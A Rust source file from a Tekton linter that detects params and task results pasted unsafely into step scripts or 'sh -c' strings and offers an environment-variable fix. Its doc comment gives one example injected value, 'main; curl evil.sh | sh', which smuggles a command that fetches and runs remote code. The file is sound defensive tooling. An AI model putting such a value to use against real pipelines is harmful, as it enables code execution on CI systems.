//! `$(params...)` and task results pasted into a `script`, or into the `-c` string of a shell
//! in `command` and `args`.

use crate::check::{Checker, Field, TaskSite, Text, refs, task_specs, task_strings};
use crate::declare_code;
use crate::diag::{Diagnostic, EnvUse, Fix};
use crate::model::{ParamSpec, ParamType, Str};
use crate::source::Span;
use crate::vars::{RefKind, Reference, Selector};
use std::collections::HashSet;

declare_code! {
    /// # A param or result pasted into a script
    ///
    /// Tekton replaces `$(params.x)` in a `script` with the text of the value before the
    /// script runs, so the value becomes shell code: a value such as `main; curl evil.sh | sh`
    /// or one with a quote runs as a command (script injection). Values from PipelineRun
    /// params, webhooks (Tekton Triggers) and other tasks' results are not to be trusted.
    ///
    /// The same holds for the command string of a shell run with `-c` (`command: [sh, -c]`,
    /// `args: ["git checkout $(params.revision)"]`, or `bash -ec ...`, `/usr/bin/env bash
    /// -c ...`): the string after `-c` is shell code.
    ///
    /// Pass the value through an environment variable and quote it; the shell then never
    /// reads it as code. Params with an `enum` are not reported: their values are fixed.
    /// In an editor, `tkc lsp` offers this change as a quick fix for a `script`.
    ///
    /// ## Example
    /// ```yaml
    /// - name: checkout
    ///   script: git checkout $(params.revision)
    /// ```
    /// Write instead:
    /// ```yaml
    /// - name: checkout
    ///   env:
    ///     - name: REVISION
    ///       value: $(params.revision)
    ///   script: git checkout "$REVISION"
    /// ```
    pub static SCRIPT_INJECTION = "tkc::lint::script-injection", Warning;
}

/// An environment variable name for a reference: `$(params.git-revision)` → `GIT_REVISION`.
pub fn env_name(r: &Reference) -> String {
    let base = match &r.kind {
        RefKind::Param { name, selector, .. } => match selector {
            Selector::Key(k) => format!("{name}_{k}"),
            Selector::Index(i) => format!("{name}_{i}"),
            _ => name.clone(),
        },
        RefKind::TaskResult { task, result, .. } => format!("{task}_{result}"),
        _ => r.expr.clone(),
    };
    let mut out: String = base
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if out.starts_with(|c: char| c.is_ascii_digit()) {
        out.insert(0, '_');
    }
    out
}

/// Where shell code is.
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
enum ShellCode {
    Script,
    /// The string after `-c` of a shell in `command` and `args`.
    DashC,
}

pub fn run(cx: &mut Checker) {
    let world = cx.world;
    for task in task_specs(world) {
        // Params with fixed values, and arrays and objects (whole ones cannot go into a script
        // at all: the params family reports that).
        let skipped: HashSet<&str> = fixed_or_structured(&task.spec.params);
        let inline_in_pipeline = matches!(task.site, TaskSite::InPipeline { .. });
        for s in task_strings(task.spec) {
            if s.field == Field::Script && s.text.text.contains("$(") {
                let injected = injected(cx, s.text, &skipped, inline_in_pipeline);
                report(cx, injected, ShellCode::Script);
            }
        }
        let argvs = task
            .spec
            .steps
            .iter()
            .map(|s| (&s.command, &s.args))
            .chain(task.spec.sidecars.iter().map(|s| (&s.command, &s.args)));
        for (command, args) in argvs {
            if let Some(code) = dash_c_string(command, args)
                && code.contains("$(")
            {
                let injected = injected(cx, code.into(), &skipped, inline_in_pipeline);
                report(cx, injected, ShellCode::DashC);
            }
        }
    }
}

/// The names of params whose values cannot carry code: those with an `enum`, and arrays and
/// objects (their items and keys are reported where they are used).
pub fn fixed_or_structured(params: &[ParamSpec]) -> HashSet<&str> {
    params
        .iter()
        .filter(|p| !p.r#enum.is_empty() || p.param_type() != Some(ParamType::String))
        .map(|p| p.name.as_str())
        .collect()
}

/// The references of `text` whose values come from outside: string params (other than
/// `skipped`), array items and object keys, and (in a pipeline's inline task) task results.
pub fn injected(
    cx: &Checker,
    text: Text,
    skipped: &HashSet<&str>,
    results_count: bool,
) -> Vec<(Reference, Span)> {
    refs(cx.world, text)
        .iter()
        .filter(|(r, _)| match &r.kind {
            RefKind::Param { name, selector, .. } => match selector {
                Selector::Whole => !skipped.contains(name.as_str()),
                Selector::Star => false,
                // An array item or an object key is a string.
                Selector::Index(_) | Selector::Key(_) => true,
            },
            RefKind::TaskResult { .. } => results_count,
            _ => false,
        })
        .map(|(r, span)| (r.clone(), span))
        .collect()
}

/// The command string of a shell started with `-c`: `command` followed by `args` is
/// `[.../]sh|bash|dash|ash|zsh|ksh ... -c STRING` (or behind `env`), where the `-c` may be
/// combined with other one-letter flags (`-ec`, `-xc`).
fn dash_c_string<'a>(command: &'a [Str], args: &'a [Str]) -> Option<&'a Str> {
    let mut argv = command.iter().chain(args);
    let mut program = argv.next()?;
    if base_name(program) == "env" {
        program = argv.next()?;
    }
    if !matches!(
        base_name(program),
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh"
    ) {
        return None;
    }
    for arg in argv.by_ref() {
        let flags = arg.strip_prefix('-').filter(|f| !f.starts_with('-'));
        match flags {
            Some(flags) if flags.contains('c') => return argv.next(),
            // Other options (`-e`, `-o pipefail`'s `-o`) and their values come first.
            Some(_) => continue,
            None if arg.as_str() == "pipefail" || arg.starts_with('+') => continue,
            None => return None,
        }
    }
    None
}

fn base_name(program: &Str) -> &str {
    program.rsplit('/').next().unwrap_or_default()
}

fn report(cx: &mut Checker, injected: Vec<(Reference, Span)>, code: ShellCode) {
    let Some((first, first_span)) = injected.first() else {
        return;
    };
    let mut seen = HashSet::new();
    let mut env = String::from("env:");
    let mut names = Vec::new();
    for (r, _) in &injected {
        if seen.insert(r.expr.clone()) {
            let var = env_name(r);
            env.push_str(&format!("\n  - name: {var}\n    value: {r}"));
            names.push(format!("\"${var}\""));
        }
    }
    let what = match &first.kind {
        RefKind::TaskResult { .. } => "a task result",
        _ => "a param",
    };
    let (into, becomes) = match code {
        ShellCode::Script => ("the script", "becomes part of the script"),
        ShellCode::DashC => ("the `-c` command", "becomes part of the shell command"),
    };
    let message = if injected.len() == 1 {
        format!("`{first}` is pasted into {into} as shell code")
    } else {
        format!(
            "{} values are pasted into {into} as shell code",
            injected.len()
        )
    };
    let mut d = Diagnostic::new(&SCRIPT_INJECTION, message)
        .with_label(*first_span, format!("{what}'s value {becomes}"));
    for (_, span) in injected.iter().skip(1) {
        d = d.with_secondary(*span, "pasted here too");
    }
    let place = match code {
        ShellCode::Script => "the script",
        ShellCode::DashC => "the command string",
    };
    d = d.with_help(format!(
        "pass it through the step's env and quote it:\n{env}\nthen use {} in {place}",
        names.join(", ")
    ));
    // A script's references can move to the step's env as they are; a `-c` string's too,
    // but there the quoting belongs to the argv as well: left to the user.
    if code == ShellCode::Script {
        let uses = injected
            .iter()
            .map(|(r, span)| EnvUse {
                span: *span,
                var: env_name(r),
                reference: r.to_string(),
            })
            .collect();
        d = d.with_fix(Fix::ScriptToEnv { uses });
    }
    cx.report(d);
}
